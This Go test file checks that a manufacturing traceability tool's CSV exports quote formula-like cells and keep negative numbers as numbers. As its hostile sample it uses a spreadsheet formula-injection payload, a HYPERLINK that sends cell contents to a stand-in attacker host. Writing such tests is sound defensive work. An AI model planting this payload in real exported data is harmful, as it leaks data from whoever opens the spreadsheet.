package traceweb_test

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/keiline/keiline/pipeline/event"
	"github.com/keiline/keiline/schema"
	"github.com/keiline/keiline/traceweb"
)

// evil is text from outside keiline that a spreadsheet would run.
const evil = `=HYPERLINK("http://evil.example/?x="&A1,"open")`

var plainNumber = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?$`)

// checkSafe parses a CSV export and fails on any cell a spreadsheet would
// evaluate; it wants the hostile text kept, quoted, and the negative
// number kept as a number when neg is not "".
func checkSafe(t *testing.T, out []byte, neg string) []string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var cells []string
	for _, r := range rows[1:] {
		cells = append(cells, r...)
	}
	for _, c := range cells {
		if c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) || strings.HasPrefix(c, "-") && !plainNumber.MatchString(c) {
			t.Errorf("cell %q would run as a formula", c)
		}
	}
	if !slices.Contains(cells, "'"+evil) {
		t.Errorf("the hostile text is not kept quoted: %q", cells)
	}
	if neg != "" && !slices.Contains(cells, neg) {
		t.Errorf("the negative measurement %s is not kept as a number: %q", neg, cells)
	}
	return cells
}

func fptr(v float64) *float64 { return &v }
func bptr(v bool) *bool       { return &v }

// TestCSVExportsAreSafeFromFormulas: every CSV export (the trace API's
// format=csv and keiline trace --csv write these) quotes text a
// spreadsheet would evaluate and keeps negative numbers as numbers.
func TestCSVExportsAreSafeFromFormulas(t *testing.T) {
	now := time.Now()
	closed := now.Add(time.Minute)
	car := schema.CarStatus{VIN: evil, Where: evil, LastStation: evil}
	t.Run("birth record", func(t *testing.T) {
		b := schema.BirthRecord{CarStatus: car,
			Visits: []schema.BirthVisit{{EventID: evil, Station: evil, Result: evil, FinishedAt: now,
				Parts:  []event.Part{{PartNumber: evil, Serial: "+" + evil, Lot: "@" + evil, Supplier: "\t" + evil}},
				Joints: []event.Joint{{Joint: evil, Tool: evil, TorqueNm: fptr(-12.5), AngleDeg: fptr(-3), OK: bptr(false)}},
				Tests:  []event.Test{{Name: evil, Value: fptr(-0.25), Unit: evil, Low: fptr(-1), High: fptr(1), OK: bptr(true)}},
				Bad:    []event.BadValue{{Tag: evil, NodeID: evil, Reason: evil}}}},
			Defects: []schema.Defect{{Station: evil, EventID: evil, At: now, Kind: evil, Name: evil, Detail: evil}},
			Holds:   []schema.BirthHold{{Station: evil, Kind: evil, Reason: evil, OpenedEventID: evil, OpenedAt: now, ClosedEventID: evil, ClosedAt: &closed}},
			Gate:    []schema.GateDecision{{EventID: evil, Station: evil, Reason: evil, DecidedAt: now}},
		}
		var out bytes.Buffer
		if err := traceweb.WriteBirthCSV(&out, b); err != nil {
			t.Fatal(err)
		}
		cells := checkSafe(t, out.Bytes(), "-12.5")
		for _, s := range []string{"'+" + evil, "'@" + evil, "'\t" + evil} {
			if !slices.Contains(cells, s) {
				t.Errorf("%q not quoted", s)
			}
		}
	})
	t.Run("parts and lots", func(t *testing.T) {
		a := &schema.PartAnswer{Uses: []schema.PartUse{{VIN: evil, Station: evil, PartNumber: evil, Serial: evil, Lot: evil, Supplier: evil, InstalledAt: now, EventID: evil}},
			Cars: []schema.CarStatus{car}}
		var out bytes.Buffer
		if err := traceweb.WritePartsCSV(&out, a); err != nil {
			t.Fatal(err)
		}
		checkSafe(t, out.Bytes(), "")
	})
	t.Run("joints of a tool", func(t *testing.T) {
		a := &schema.WindowAnswer{Joints: []schema.JointRow{{VIN: evil, Station: evil, Joint: evil, Tool: evil, TorqueNm: fptr(-40), AngleDeg: fptr(-1e-06), MadeAt: now, EventID: evil}},
			Cars: []schema.CarStatus{car}}
		var out bytes.Buffer
		if err := traceweb.WriteWindowCSV(&out, a); err != nil {
			t.Fatal(err)
		}
		checkSafe(t, out.Bytes(), "-1e-06")
	})
	t.Run("tests of a station", func(t *testing.T) {
		a := &schema.WindowAnswer{Tests: []schema.TestRow{{VIN: evil, Station: evil, Name: evil, Value: fptr(-7.5), Unit: evil, TestedAt: now, EventID: evil}},
			Cars: []schema.CarStatus{car}}
		var out bytes.Buffer
		if err := traceweb.WriteWindowCSV(&out, a); err != nil {
			t.Fatal(err)
		}
		checkSafe(t, out.Bytes(), "-7.5")
	})
	t.Run("visits of a station", func(t *testing.T) {
		a := &schema.WindowAnswer{Visits: []schema.VisitRow{{VIN: evil, Station: evil, Result: evil, FinishedAt: now, EventID: evil}},
			Cars: []schema.CarStatus{car}}
		var out bytes.Buffer
		if err := traceweb.WriteWindowCSV(&out, a); err != nil {
			t.Fatal(err)
		}
		checkSafe(t, out.Bytes(), "")
	})
}
